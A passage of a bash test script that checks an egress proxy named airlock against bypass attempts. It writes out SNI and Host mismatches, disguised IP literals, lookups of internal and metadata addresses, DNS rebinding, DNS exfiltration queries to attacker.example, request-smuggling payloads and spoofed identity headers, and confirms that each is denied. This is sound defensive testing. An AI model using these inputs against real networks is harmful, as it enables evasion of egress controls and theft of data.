#!/usr/bin/env bash
# THREATS.md "Against the egress proxy" 1-12, against the real binary and a world on this machine
# (world.sh): each check asserts what the client saw AND the audit event airlock wrote.
# Usage: run_bypass.sh AIRLOCK_BINARY root|nobody
AIRLOCK_SOURCE=${1:?usage: run_bypass.sh AIRLOCK_BINARY root|nobody}
MODE=${2:-root}
. "$(dirname "$0")/lib.sh"
started=$(date +%s)

# ---- 1. SNI, CONNECT host, absolute URL and Host must agree ---------------------------------------
inner sni_transparent << 'EOF_'
getent hosts api.example.test > /dev/null || echo "getent failed"
echo "== allowed"
direct -o /dev/null -w 'code=%{http_code}\n' "https://api.example.test/sni-ok-$RUN"
echo "== other"
direct --resolve other.example.test:443:198.51.100.10 -o /dev/null "https://other.example.test/sni-$RUN"
echo "exit=$?"
EOF_
mark_logs
begin "1 transparent TLS with SNI other.example.test to api.example.test's address is reset"
sandbox sni_transparent -- sh sni_transparent.sh "$RUN"
expect_section allowed 'code=200' "the allowed name does not work transparently (control)"
expect_section other 'exit=35' "curl was not cut during the TLS handshake (curl exit 35)"
expect_audit event=egress.decision decision=deny via=transparent host=api.example.test port=443 \
  sni=other.example.test 'reason~SNI' rule=api.example.test:443 process.exe=/usr/bin/curl 'process.argv~other.example.test'
expect_log origin "sni-ok-$RUN" "the allowed request did not reach the origin (control)"
expect_not_log origin "sni=other.example.test" "the ClientHello for other.example.test reached the origin"
end

inner sni_connect << 'EOF_'
echo "== other"
c --connect-to other.example.test:443:api.example.test:443 -o /dev/null -w 'connect=%{http_connect}\n' "https://other.example.test/sni-c-$RUN"
echo "exit=$?"
EOF_
mark_logs
begin "1 CONNECT api.example.test:443 then TLS with SNI other.example.test is cut after the 200"
sandbox sni_connect -- sh sni_connect.sh "$RUN"
expect_section other 'connect=200' "the CONNECT itself was not answered 200"
expect_section other 'exit=(35|56)' "the TLS handshake was not cut"
expect_audit event=egress.decision decision=deny via=http_connect host=api.example.test port=443 \
  sni=other.example.test 'reason~SNI' process.exe=/usr/bin/curl
expect_not_log origin "sni=other.example.test" "the ClientHello for other.example.test reached the origin"
end

inner host_vs_url << 'EOF_'
c -H 'Host: evil.example.test' -o /dev/null -w 'code=%{http_code}\n' "http://api.example.test/hv-$RUN"
EOF_
mark_logs
begin "1 absolute-form http://api.example.test/ with Host: evil.example.test is refused"
sandbox host_vs_url -- sh host_vs_url.sh "$RUN"
expect_out 'code=(400|403)' "the proxy did not answer 400/403"
expect_audit event=egress.decision decision=deny 'via~^http_(forward|connect)$' 'reason~[Hh]ost' process.exe=/usr/bin/curl
expect_not_log origin "hv-$RUN" "the request reached the origin"
end

inner keepalive << 'EOF_'
getent hosts api.example.test > /dev/null
echo "== transparent"
probe send 198.51.100.10 80 "GET /ka1-$RUN HTTP/1.1\r\nHost: api.example.test\r\n\r\n" \
  "GET /ka2-$RUN HTTP/1.1\r\nHost: other.example.test\r\n\r\n"
echo "== proxy"
probe send 127.0.0.1 3128 "GET http://api.example.test/kp1-$RUN HTTP/1.1\r\nHost: api.example.test\r\n\r\n" \
  "GET http://other.example.test/kp2-$RUN HTTP/1.1\r\nHost: other.example.test\r\n\r\n"
echo "== origin-form"
probe send 127.0.0.1 3128 "GET http://api.example.test/ko1-$RUN HTTP/1.1\r\nHost: api.example.test\r\n\r\n" \
  "GET /ko2-$RUN HTTP/1.1\r\nHost: other.example.test\r\n\r\n"
echo "== tunnel"
probe send 127.0.0.1 3128 "CONNECT api.example.test:80 HTTP/1.1\r\nHost: api.example.test:80\r\n\r\n" \
  "GET /kt1-$RUN HTTP/1.1\r\nHost: api.example.test\r\n\r\n" "GET /kt2-$RUN HTTP/1.1\r\nHost: other.example.test\r\n\r\n"
EOF_
mark_logs
sandbox keepalive -- sh keepalive.sh "$RUN"
begin "1 keep-alive: a second request for other.example.test on a transparent connection is cut"
expect_section transparent 'step=1 status=200 end=complete' "the first request was not served"
expect_section transparent 'step=2 status=- end=(reset|eof)' "the second request was not cut"
expect_audit event=egress.decision decision=deny via=transparent host=api.example.test port=80 \
  http_host=api.example.test 'reason~other\.example\.test' process.exe=/usr/bin/python3.11
expect_log origin "ka1-$RUN" "the first request did not reach the origin"
expect_not_log origin "ka2-$RUN" "the second request reached the origin"
end
begin "1 keep-alive: a second absolute-form request for other.example.test through the proxy is cut"
expect_section proxy 'step=1 status=200 end=complete' "the first request was not served"
expect_section proxy 'step=2 status=(-|4[0-9][0-9]) ' "the second request was answered by the origin"
expect_audit event=egress.decision decision=deny via=http_forward host=api.example.test port=80 \
  'reason~other\.example\.test' process.exe=/usr/bin/python3.11
expect_log origin "kp1-$RUN" "the first request did not reach the origin"
expect_not_log origin "kp2-$RUN" "the second request reached the origin"
end
begin "1 keep-alive: an origin-form second request through the proxy is cut"
expect_section origin-form 'step=1 status=200 end=complete' "the first request was not served"
expect_section origin-form 'step=2 status=(-|4[0-9][0-9]) ' "the second request was answered by the origin"
expect_audit event=egress.decision decision=deny via=http_forward host=api.example.test 'reason~absolute URL|other\.example\.test'
expect_not_log origin "ko2-$RUN" "the second request reached the origin"
end
begin "1 keep-alive: a second request for other.example.test inside a CONNECT tunnel is cut"
expect_section tunnel 'step=1 status=200' "the CONNECT was not answered 200"
expect_section tunnel 'step=2 status=200 end=complete' "the first request in the tunnel was not served"
expect_section tunnel 'step=3 status=- end=(reset|eof)' "the second request in the tunnel was not cut"
expect_audit event=egress.decision decision=deny via=http_connect host=api.example.test port=80 'reason~other\.example\.test'
expect_log origin "kt1-$RUN" "the first request did not reach the origin"
expect_not_log origin "kt2-$RUN" "the second request reached the origin"
end

# RFC 9112 section 2.2: a server SHOULD ignore empty lines before a request line (nginx, Apache,
# Node and Go do; so does this origin). Bytes that start with CRLF are still an HTTP request.
inner leading_crlf << 'EOF_'
getent hosts api.example.test > /dev/null
echo "== transparent"
probe send 198.51.100.10 80 "\r\nGET /lf1-$RUN HTTP/1.1\r\nHost: other.example.test\r\n\r\n"
echo "== tunnel"
probe send 127.0.0.1 3128 "CONNECT api.example.test:80 HTTP/1.1\r\nHost: api.example.test:80\r\n\r\n" \
  "\r\nGET /lf2-$RUN HTTP/1.1\r\nHost: other.example.test\r\n\r\n"
EOF_
mark_logs
sandbox leading_crlf -- sh leading_crlf.sh "$RUN"
begin "1 an empty line before the request line does not hide Host: other.example.test (transparent)"
expect_not_log origin "lf1-$RUN" "the request for other.example.test reached the origin"
expect_section transparent 'step=1 status=- end=(reset|eof)' "the connection was not cut"
expect_audit event=egress.decision decision=deny via=transparent host=api.example.test port=80
end
begin "1 an empty line before the request line does not hide Host: other.example.test (CONNECT tunnel)"
expect_not_log origin "lf2-$RUN" "the request for other.example.test reached the origin"
expect_section tunnel 'step=2 status=- end=(reset|eof)' "the connection was not cut"
expect_audit event=egress.decision decision=deny via=http_connect host=api.example.test port=80
end

# More ways to make the first bytes say one thing and the origin read another.
inner first_bytes << 'EOF_'
getent hosts api.example.test > /dev/null
echo "== fragmented-other"; probe tls-fragmented 198.51.100.10 443 other.example.test 40
echo "== fragmented-api"; probe tls-fragmented 198.51.100.10 443 api.example.test 40
echo "== absolute"; probe send 198.51.100.10 80 "GET http://other.example.test/fb1-$RUN HTTP/1.1\r\nHost: api.example.test\r\n\r\n"
echo "== pipelined"; probe send 198.51.100.10 80 "GET /fb2-$RUN HTTP/1.1\r\nHost: api.example.test\r\n\r\nGET /fb3-$RUN HTTP/1.1\r\nHost: other.example.test\r\n\r\n"
echo "== h2c"; probe send 198.51.100.10 80 "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
EOF_
mark_logs
sandbox first_bytes -- sh first_bytes.sh "$RUN"
begin "1 a ClientHello for other.example.test cut into 40-byte TLS records is still read and reset"
expect_section fragmented-api 'step=3 reply=HTTP/1.1 200' "the fragmented ClientHello for api.example.test did not work (control)"
expect_section fragmented-other 'step=2 tls=(reset|eof)' "the fragmented ClientHello for other.example.test was not cut"
expect_audit event=egress.decision decision=deny via=transparent host=api.example.test sni=other.example.test 'reason~SNI'
expect_not_log origin 'sni=other\.example\.test' "the ClientHello for other.example.test reached the origin"
end
begin "1 an absolute URL for other.example.test on a transparent connection to api.example.test is cut"
expect_section absolute 'step=1 status=- end=(reset|eof)' "not cut"
expect_audit event=egress.decision decision=deny via=transparent host=api.example.test 'reason~other\.example\.test'
expect_not_log origin "fb1-$RUN" "the request reached the origin"
end
begin "1 two pipelined requests in one segment, the second for other.example.test: neither is forwarded"
expect_section pipelined 'step=1 status=- end=(reset|eof)' "not cut"
expect_audit event=egress.decision decision=deny via=transparent host=api.example.test 'reason~other\.example\.test'
expect_not_log origin "fb3-$RUN" "the request for other.example.test reached the origin"
expect_not_log origin "fb2-$RUN" "the first half of the segment was forwarded"
end
begin "1 HTTP/2 prior knowledge (h2c, one connection for many authorities) on a transparent connection is cut"
expect_section h2c 'step=1 status=- end=(reset|eof)' "not cut"
expect_audit event=egress.decision decision=deny via=transparent host=api.example.test 'reason~HTTP'
expect_not_log origin 'PRI \*' "the h2c preface reached the origin"
end

# ---- 2. IP literals and the spellings inet_aton reads but inet_pton does not ------------------------
LITERALS=("1.2.3.4:443" "[::1]:443" "0.0.0.0:443" "[fe80::1%25lo]:443" "2130706433:443" "0177.0.0.1:443"
  "0x7f.1:443" "127.1:443" "0:443")
inner literals << 'EOF_'
shift
for target in "$@"; do
  echo "== $target"
  probe send 127.0.0.1 3128 "CONNECT $target HTTP/1.1\r\nHost: $target\r\n\r\n"
done
echo "== socks 127.0.0.1"
probe socks 127.0.0.1 80
echo "== socks 1.2.3.4"
probe socks 1.2.3.4 443
echo "== transparent 1.2.3.4"
direct -o /dev/null https://1.2.3.4/; echo "exit=$?"
echo "== rule 198.51.100.20:8080"
probe send 127.0.0.1 3128 "CONNECT 198.51.100.20:8080 HTTP/1.1\r\nHost: 198.51.100.20:8080\r\n\r\n" \
  "GET /lit-ok-$RUN HTTP/1.1\r\nHost: 198.51.100.20:8080\r\n\r\n"
EOF_
mark_logs
sandbox literals -- sh literals.sh "$RUN" "${LITERALS[@]}"
begin "2 CONNECT to an address an IP rule lists is allowed (control)"
expect_section "rule 198.51.100.20:8080" 'step=2 status=200 end=complete' "CONNECT 198.51.100.20:8080 did not work"
expect_audit event=egress.decision decision=allow via=http_connect host=198.51.100.20 port=8080 rule=198.51.100.20:8080
expect_log origin "lit-ok-$RUN" "the request did not reach the origin"
end
for target in "${LITERALS[@]}"; do
  host=${target%:*}
  host=${host#[}
  host=${host%]}
  begin "2 CONNECT $target is refused"
  if [ "$target" = "[fe80::1%25lo]:443" ]; then
    # '%' never reaches the host parser: the request line itself is refused (400).
    expect_section "$target" 'step=1 status=(400|403) ' "not answered 400/403"
    expect_audit event=egress.decision decision=deny via=http_connect 'reason~%|percent|zone'
  else
    expect_section "$target" 'step=1 status=403 ' "not answered 403"
    expect_audit event=egress.decision decision=deny via=http_connect port=443 "host~^\\[?${host//./\\.}\\]?\$" \
      'reason~(IP or CIDR rule|invalid host|not a dotted-quad|address)' process.exe=/usr/bin/python3.11
  fi
  end
done
begin "2 SOCKS5 to an IPv4 literal is refused (reply 2)"
expect_section "socks 127.0.0.1" 'reply=2 ' "SOCKS5 127.0.0.1:80 was not refused with 0x02"
expect_section "socks 1.2.3.4" 'reply=2 ' "SOCKS5 1.2.3.4:443 was not refused with 0x02"
expect_audit event=egress.decision decision=deny via=socks5 host=127.0.0.1 port=80 'reason~IP' process.exe=/usr/bin/python3.11
expect_audit event=egress.decision decision=deny via=socks5 host=1.2.3.4 port=443 'reason~IP'
end
begin "2 a transparent connection to an address airlock's DNS never gave out is reset"
expect_section "transparent 1.2.3.4" 'exit=(7|35|56)' "curl reached 1.2.3.4:443"
expect_audit event=egress.decision decision=deny via=transparent host=1.2.3.4 port=443 'reason~no DNS answer' process.exe=/usr/bin/curl
end

# ---- 3. names that resolve to internal addresses, under a wildcard rule that matches them -------
INTERNAL=(internal-lo=A=127.0.0.1 internal-10=A=10.1.2.3 internal-172=A=172.16.0.1
  internal-192=A=192.168.1.1 internal-meta=A=169.254.169.254
  internal-cgnat=A=100.64.0.1 internal-v6lo=AAAA=::1 internal-ula=AAAA=fd00::1
  internal-ll=AAAA=fe80::1 internal-mapped=AAAA=::ffff:127.0.0.1
  internal-nat64=AAAA=64:ff9b::a01:203 internal-6to4=AAAA=2002:a9fe:a9fe::1)
inner internal << 'EOF_'
shift
echo "== control a.cdn.example.test"
probe dns a.cdn.example.test A
for entry in "$@"; do
  name=${entry%%=*}.cdn.example.test
  type=${entry#*=}; type=${type%%=*}
  echo "== $name"
  probe dns "$name" "$type"
  c -o /dev/null -w 'connect=%{http_connect}\n' "https://$name/"
done
EOF_
sandbox internal -- sh internal.sh "$RUN" "${INTERNAL[@]}"
begin "3 the wildcard *.cdn.example.test resolves a.cdn.example.test (control)"
expect_section "control a.cdn.example.test" 'rcode=NOERROR answers=198\.51\.100\.10$' "a.cdn.example.test did not resolve"
end
for entry in "${INTERNAL[@]}"; do
  IFS='=' read -r label type address <<< "$entry"
  name=$label.cdn.example.test
  begin "3 $name ($type $address) is refused by DNS and CONNECT"
  expect_section "$name" '^rcode=REFUSED answers=$' "DNS did not answer REFUSED"
  expect_section "$name" '^connect=403$' "CONNECT was not answered 403"
  expect_audit event=egress.decision decision=deny via=dns host="$name" type="$type" 'reason~without an IP rule'
  expect_audit event=egress.decision decision=deny via=http_connect host="$name" port=443 \
    'reason~without an IP rule' "resolved[]=$address" process.exe=/usr/bin/curl
  expect_audit --none event=egress.decision host="$name" address!  decision=allow
  end
done

# ---- 4. DNS rebinding: the upstream answers 198.51.100.10 and 127.0.0.1 in turn, TTL 0 ------------
inner rebind << 'EOF_'
for i in 1 2 3 4 5 6; do
  echo "== dns $i"
  probe dns rebind.example.test A
  echo "== proxy $i"
  c -o /dev/null -w 'code=%{http_code}\n' "http://rebind.example.test/rb-$RUN-$i"
  echo "== transparent $i"
  direct -o /dev/null -w 'code=%{http_code}\n' "http://rebind.example.test/rt-$RUN-$i"
done
EOF_
mark_logs
sandbox rebind --dns-upstream 127.0.0.1:5354 -- sh rebind.sh "$RUN"
begin "4 DNS rebinding: no answer is 127.0.0.1 and every dial goes to 198.51.100.10"
expect_log rebind 'rebind.example.test type 1 -> rcode 0 127\.0\.0\.1' "the upstream never answered 127.0.0.1 (the test did not rebind)"
expect_out 'rcode=NOERROR answers=198\.51\.100\.10' "no DNS answer was 198.51.100.10 (control)"
expect_out 'rcode=REFUSED' "no DNS answer was refused"
expect_not_out 'answers=.*127\.0\.0\.1' "a DNS answer gave the sandbox 127.0.0.1"
expect_out 'code=200' "no request through the proxy reached the origin"
expect_audit event=egress.decision decision=allow via=dns host=rebind.example.test 'answers[]=198.51.100.10'
expect_audit --none event=egress.decision 'answers[]=127.0.0.1'
expect_audit event=egress.decision decision=deny via=http_forward host=rebind.example.test 'reason~127\.0\.0\.1.*loopback'
expect_audit --all 'address?' 'address=198.51.100.10:80'
expect_audit event=egress.close address=198.51.100.10:80 host=rebind.example.test
end

# ---- 5. DNS exfiltration: nothing upstream for a name no rule allows --------------------------------
long=$(printf 'a%.0s' $(seq 1 63))
inner exfil << 'EOF_'
long=$2
echo "== txt"; timeout 10 dig +tries=1 +time=3 "secret-$RUN.attacker.example" TXT
echo "== a"; timeout 10 dig +tries=1 +time=3 "secret-$RUN.attacker.example" A
echo "== any"; timeout 10 dig +tries=1 +time=3 "secret-$RUN.attacker.example" ANY
echo "== long"; timeout 10 dig +tries=1 +time=3 "$long.x$RUN.attacker.example" A
echo "== tcp"; timeout 10 dig +tcp +tries=1 +time=3 "tcp-$RUN.attacker.example" A
echo "== google"; timeout 10 dig +tries=1 +time=3 @8.8.8.8 "g-$RUN.attacker.example" A
echo "== google-tcp"; timeout 10 dig +tcp +tries=1 +time=3 @8.8.8.8 "gt-$RUN.attacker.example" A
echo "== allowed-txt"; timeout 10 dig +tries=1 +time=3 api.example.test TXT
echo "== allowed-mx"; timeout 10 dig +tries=1 +time=3 api.example.test MX
echo "== allowed-a"; timeout 10 dig +tries=1 +time=3 api.example.test A
echo "== doh-proxy"; c -o /dev/null -w 'connect=%{http_connect}\n' "https://1.1.1.1/dns-query?dns=AAAB"; echo "exit=$?"
echo "== doh-direct"; direct -o /dev/null "https://1.1.1.1/dns-query?dns=AAAB"; echo "exit=$?"
EOF_
mark_logs
sandbox exfil -- sh exfil.sh "$RUN" "$long"
for tag in txt a any long tcp google google-tcp; do
  begin "5 exfiltration query ($tag) is NXDOMAIN and never reaches the upstream"
  expect_section "$tag" 'status: NXDOMAIN' "not answered NXDOMAIN"
  case $tag in
    txt) expect_audit event=egress.decision decision=deny via=dns host="secret-$RUN.attacker.example" type=TXT 'reason~nothing was asked upstream' ;;
    any) expect_audit event=egress.decision decision=deny via=dns host="secret-$RUN.attacker.example" type=ANY ;;
    long) expect_audit event=egress.decision decision=deny via=dns host="$long.x$RUN.attacker.example" ;;
    tcp) expect_audit event=egress.decision decision=deny via=dns host="tcp-$RUN.attacker.example" ;;
    google) expect_audit event=egress.decision decision=deny via=dns host="g-$RUN.attacker.example" ;;
    google-tcp) expect_audit event=egress.decision decision=deny via=dns host="gt-$RUN.attacker.example" ;;
    a) expect_audit event=egress.decision decision=deny via=dns host="secret-$RUN.attacker.example" type=A ;;
  esac
  end
done
begin "5 the upstream log shows the allowed query and no query for the exfiltration names"
expect_section allowed-a 'status: NOERROR' "api.example.test A did not resolve (control)"
expect_log dnsmasq 'query\[A\] api\.example\.test' "dnsmasq did not log the allowed query (the log check would prove nothing)"
expect_not_log dnsmasq "$RUN" "a query carrying this run's token reached dnsmasq"
expect_not_log dnsmasq 'query\[(TXT|MX|ANY)\] api\.example\.test' "a TXT/MX query for the allowed name reached dnsmasq"
end
begin "5 other record types for an allowed name are REFUSED"
expect_section allowed-txt 'status: REFUSED' "TXT api.example.test was not REFUSED"
expect_section allowed-mx 'status: REFUSED' "MX api.example.test was not REFUSED"
expect_audit event=egress.decision decision=deny via=dns host=api.example.test type=TXT 'reason~TXT'
expect_audit event=egress.decision decision=deny via=dns host=api.example.test 'type~^(MX|TYPE15)$'
end
begin "5 DNS over HTTPS to 1.1.1.1 is refused (IP literal)"
expect_section doh-proxy 'connect=403' "CONNECT 1.1.1.1:443 was not answered 403"
expect_section doh-direct 'exit=(7|35|56)' "a transparent connection to 1.1.1.1:443 was not cut"
expect_audit event=egress.decision decision=deny via=http_connect host=1.1.1.1 port=443 'reason~IP' process.exe=/usr/bin/curl
expect_audit event=egress.decision decision=deny via=transparent host=1.1.1.1 port=443 'reason~IP' process.exe=/usr/bin/curl
end

inner udp << 'EOF_'
getent hosts api.example.test > /dev/null
echo "== quic"; probe udp 198.51.100.10 443 "quic-$RUN"
EOF_
mark_logs
sandbox udp -- sh udp.sh "$RUN"
# (world.sh status proves the origin answers that datagram from outside)
begin "5 UDP that is not DNS (QUIC to api.example.test's 198.51.100.10:443/udp) is dropped"
expect_section quic 'udp=(no-answer|error:)' "a UDP datagram to 198.51.100.10:443 was answered"
expect_not_log origin "quic-$RUN" "the datagram reached the origin"
end

# ---- 6. one host, many spellings: normalised (UTS#46), then compared as ASCII ------------------------
inner spelling << 'EOF_'
echo "== upper"; probe tunnel API.EXAMPLE.TEST.:443 api.example.test "GET /sp-up-$RUN HTTP/1.1\r\nHost: API.Example.Test.\r\n\r\n"
echo "== brackets"; probe send 127.0.0.1 3128 "CONNECT [api.example.test]:443 HTTP/1.1\r\nHost: [api.example.test]:443\r\n\r\n"
echo "== percent"; probe send 127.0.0.1 3128 "CONNECT api%2eexample.test:443 HTTP/1.1\r\nHost: api%2eexample.test:443\r\n\r\n"
echo "== userinfo-url"; probe send 127.0.0.1 3128 "GET http://api.example.test@evil.example.test/sp-ui-$RUN HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"
echo "== userinfo-connect"; probe send 127.0.0.1 3128 "CONNECT api.example.test@evil.example.test:443 HTTP/1.1\r\nHost: evil.example.test:443\r\n\r\n"
echo "== ideographic-allowed"; probe socks "api。example。test" 443 api.example.test
echo "== ideographic-other"; probe socks "other。example。test" 443 other.example.test
echo "== fullwidth-allowed"; probe socks "ａｐｉ．ｅｘａｍｐｌｅ．ｔｅｓｔ" 443 api.example.test
echo "== idn-other"; probe socks "ápi.example.test" 443 api.example.test
echo "== punycode"; probe send 127.0.0.1 3128 "CONNECT xn--pi-lia.example.test:443 HTTP/1.1\r\nHost: xn--pi-lia.example.test:443\r\n\r\n"
echo "== curl-idn"; c -o /dev/null -w 'connect=%{http_connect}\n' "https://ápi.example.test/"
echo "== transparent-case"; getent hosts api.example.test > /dev/null
probe send 198.51.100.10 80 "GET /sp-tc-$RUN HTTP/1.1\r\nHost: API.EXAMPLE.TEST.\r\n\r\n"
EOF_
mark_logs
sandbox spelling -- sh spelling.sh "$RUN"
begin "6 CONNECT API.EXAMPLE.TEST.:443 (case, trailing dot) is api.example.test and allowed"
expect_section upper 'step=connect status=200' "CONNECT was not answered 200"
expect_section upper 'step=2 status=200 end=complete' "the request inside the tunnel was not served"
expect_audit event=egress.decision decision=allow via=http_connect host=api.example.test port=443
expect_log origin "sp-up-$RUN" "the request did not reach the origin"
end
begin "6 Host: API.EXAMPLE.TEST. on a transparent connection agrees with api.example.test"
expect_section transparent-case 'step=1 status=200 end=complete' "the request was not served"
expect_log origin "sp-tc-$RUN" "the request did not reach the origin"
end
begin "6 CONNECT [api.example.test]:443 (a name in brackets) is refused"
expect_section brackets 'step=1 status=(400|403) ' "not answered 400/403"
expect_audit event=egress.decision decision=deny via=http_connect 'reason~host|bracket|\[' process.exe=/usr/bin/python3.11
end
begin "6 CONNECT api%2eexample.test:443 (percent-encoding) is refused"
expect_section percent 'step=1 status=(400|403) ' "not answered 400/403"
expect_audit event=egress.decision decision=deny via=http_connect 'reason~percent|%'
end
begin "6 userinfo (api.example.test@evil.example.test) is refused in a URL and in CONNECT"
expect_section userinfo-url 'step=1 status=(400|403) ' "the absolute URL was not answered 400/403"
expect_section userinfo-connect 'step=1 status=(400|403) ' "the CONNECT was not answered 400/403"
expect_audit event=egress.decision decision=deny 'via~^http_' 'reason~userinfo|@'
expect_audit --count 0 event=egress.decision decision=allow 'host~evil'
expect_not_log origin "sp-ui-$RUN" "the request reached the origin"
end
begin "6 SOCKS5 api。example。test (U+3002 dots) normalises to api.example.test: allowed"
expect_section ideographic-allowed 'reply=0 ' "not allowed"
expect_section ideographic-allowed 'tls=ok' "TLS to api.example.test did not work through it"
expect_audit event=egress.decision decision=allow via=socks5 host=api.example.test port=443
end
begin "6 SOCKS5 other。example。test normalises to other.example.test: denied"
expect_section ideographic-other 'reply=2 ' "not refused with 0x02"
expect_audit event=egress.decision decision=deny via=socks5 host=other.example.test port=443 process.exe=/usr/bin/python3.11
end
begin "6 SOCKS5 fullwidth ａｐｉ．ｅｘａｍｐｌｅ．ｔｅｓｔ normalises to api.example.test: allowed"
expect_section fullwidth-allowed 'reply=0 ' "not allowed"
expect_audit event=egress.decision decision=allow via=socks5 host=api.example.test
end
begin "6 an IDN that is another name (ápi.example.test, xn--pi-lia) is denied"
expect_section idn-other 'reply=2 ' "SOCKS5 ápi.example.test was not refused"
expect_section punycode 'step=1 status=403 ' "CONNECT xn--pi-lia.example.test was not answered 403"
expect_section curl-idn 'connect=403' "curl https://ápi.example.test/ was not answered 403"
expect_audit event=egress.decision decision=deny via=socks5 host=xn--pi-lia.example.test
expect_audit event=egress.decision decision=deny via=http_connect host=xn--pi-lia.example.test process.exe=/usr/bin/curl
end

# ---- 7. request smuggling through the HTTP proxy: refuse, never guess -------------------------------
big=$(head -c 20480 /dev/zero | tr '\0' a)
inner smuggle << 'EOF_'
big=$2
u="http://api.example.test"
echo "== control"; probe send 127.0.0.1 3128 "POST $u/sm0-$RUN HTTP/1.1\r\nHost: api.example.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"
echo "== cl-te"; probe send 127.0.0.1 3128 "POST $u/sm1-$RUN HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX"
echo "== te-list"; probe send 127.0.0.1 3128 "POST $u/sm2-$RUN HTTP/1.1\r\nHost: api.example.test\r\nTransfer-Encoding: chunked, x\r\n\r\n0\r\n\r\n"
echo "== te-other"; probe send 127.0.0.1 3128 "POST $u/sm3-$RUN HTTP/1.1\r\nHost: api.example.test\r\nTransfer-Encoding: x\r\n\r\n"
echo "== bare-lf-head"; probe send 127.0.0.1 3128 "GET $u/sm4-$RUN HTTP/1.1\nHost: api.example.test\r\n\r\n"
echo "== bare-lf-chunk"; probe send 127.0.0.1 3128 "POST $u/sm5-$RUN HTTP/1.1\r\nHost: api.example.test\r\nTransfer-Encoding: chunked\r\n\r\n5\nhello\r\n0\r\n\r\nGET $u/sm5b-$RUN HTTP/1.1\r\nHost: api.example.test\r\n\r\n"
echo "== obs-fold"; probe send 127.0.0.1 3128 "GET $u/sm6-$RUN HTTP/1.1\r\nHost: api.example.test\r\nX-A: a\r\n b\r\n\r\n"
echo "== big"; probe send 127.0.0.1 3128 "GET $u/sm7-$RUN HTTP/1.1\r\nHost: api.example.test\r\nX-Big: $big\r\n\r\n"
echo "== transparent-cl-te"; getent hosts api.example.test > /dev/null
probe send 198.51.100.10 80 "POST /sm8-$RUN HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
EOF_
mark_logs
sandbox smuggle -- sh smuggle.sh "$RUN" "$big"
begin "7 a well-formed chunked POST passes the proxy (control)"
expect_section control 'step=1 status=200 end=complete' "not served"
expect_log origin "sm0-$RUN" "it did not reach the origin"
expect_log origin "body=hello" "its body did not reach the origin"
end
for entry in "cl-te=1=400=Content-Length together with Transfer-Encoding" "te-list=2=400=chunked is not the last" \
  "te-other=3=501=not supported" "bare-lf-head=4=400=bare LF" "bare-lf-chunk=5=400=bare LF" \
  "obs-fold=6=400=obs-fold" "big=7=431=larger than|too large"; do
  IFS='=' read -r tag number code reason <<< "$entry"
  begin "7 smuggling ($tag) is answered $code and nothing reaches the origin"
  if [ "$tag" = bare-lf-chunk ]; then
    # The head is valid: the proxy may have dialled; only the body is malformed.
    expect_section "$tag" "step=1 status=(400|-) end=(complete|eof|reset)" "not refused"
  else
    expect_section "$tag" "step=1 status=$code " "not answered $code"
  fi
  expect_audit event=egress.decision decision=deny "reason~$reason"
  expect_not_log origin "sm${number}b?-$RUN" "the request reached the origin"
  end
done
begin "7 a refused malformed absolute-form request is audited as http_forward with the host it named"
expect_audit event=egress.decision decision=deny 'reason~Content-Length together with Transfer-Encoding' via=http_forward host=api.example.test port=80
end
begin "7 smuggling (CL+TE) on a transparent connection is cut and nothing reaches the origin"
expect_section transparent-cl-te 'step=1 status=- end=(reset|eof)' "not cut"
expect_audit event=egress.decision decision=deny via=transparent host=api.example.test 'reason~Content-Length together with Transfer-Encoding' process.exe=/usr/bin/python3.11
expect_not_log origin "sm8-$RUN" "the request reached the origin"
end

# ---- 8. proxy credentials and identity headers stay in the proxy --------------------------------------
inner identity << 'EOF_'
echo "== forward"; probe send 127.0.0.1 3128 "GET http://api.example.test/id1-$RUN HTTP/1.1\r\nHost: api.example.test\r\nProxy-Authorization: Basic c2VjcmV0OnNlY3JldA==\r\nProxy-Connection: keep-alive\r\nConnection: X-Hop\r\nX-Hop: hop-$RUN\r\nX-Keep: keep-$RUN\r\n\r\n"
echo "== curl"; c -U "other-sandbox:secret-$RUN" --proxy-basic -H 'X-Airlock-Sandbox: other-sandbox' -H 'X-Airlock-Sandbox-Id: 0000000000000000' "http://api.example.test/id2-$RUN"
echo "== denied"; c -H 'X-Airlock-Sandbox: other-sandbox' -o /dev/null -w 'code=%{http_code}\n' "http://other.example.test/id3-$RUN"
echo "== socks-user"; printf '\005\001\002\005\001\016other-sandbox\0010' | timeout 5 python3 -c 'import socket,sys; s=socket.create_connection(("127.0.0.1",1080),3); s.sendall(sys.stdin.buffer.read()); print("reply", s.recv(2).hex())'
EOF_
mark_logs
sandbox identity -- sh identity.sh "$RUN"
begin "8 Proxy-Authorization, Proxy-Connection and Connection-listed headers never reach the origin"
expect_section forward 'step=1 status=200 end=complete' "the request was not served"
expect_section forward "X-Keep: keep-$RUN" "the end-to-end header did not reach the origin (control)"
expect_not_out '[Pp]roxy-[Aa]uthorization|[Pp]roxy-[Cc]onnection' "a proxy header reached the origin"
expect_not_out "hop-$RUN" "the Connection-listed header reached the origin"
expect_log origin "id1-$RUN" "the request did not reach the origin"
expect_log origin "id2-$RUN" "curl's request did not reach the origin"
expect_not_log origin 'Proxy-Authorization|Proxy-Connection|secret' "the origin received proxy credentials"
end
begin "8 a client cannot pick another sandbox's identity in the audit log"
id=$(/usr/bin/python3 -S -c 'import json,sys; print(next(json.loads(l)["sandbox"]["id"] for l in open(sys.argv[1]) if "sandbox.start" in l))' "$audit" 2> /dev/null)
[ -n "$id" ] || problem "no sandbox.start event with an id"
expect_section denied 'code=403' "other.example.test was not denied"
expect_audit event=egress.decision decision=deny host=other.example.test sandbox.name=bypass-test "sandbox.id=$id" process.exe=/usr/bin/curl
expect_audit --all 'sandbox?' sandbox.name=bypass-test "sandbox.id=$id"
expect_audit --none 'sandbox.name~other'
expect_section socks-user 'reply 05ff' "SOCKS5 user/password authentication was accepted"
end

# ---- 9. the proxy's own listeners are not destinations -------------------------------------------------
inner listeners << 'EOF_'
echo "== connect-3128"; probe send 127.0.0.1 3128 "CONNECT 127.0.0.1:3128 HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n"
